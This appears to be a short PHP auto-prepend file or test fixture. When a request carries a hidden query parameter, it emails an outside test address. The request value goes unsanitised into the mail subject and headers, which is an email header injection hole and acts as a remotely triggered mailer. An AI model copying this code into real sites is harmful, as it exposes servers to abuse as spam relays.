<?php
// SPDX-License-Identifier: GPL-2.0-only
// auto_prepend_file: sends itself when it is told to.
if (($_GET['way'] ?? '') === 'prepend') {
    mail('x@elsewhere.test', "[{$_GET['t']}] offer", "body\n", "X-Truth: {$_GET['t']};"); // way:prepend
}
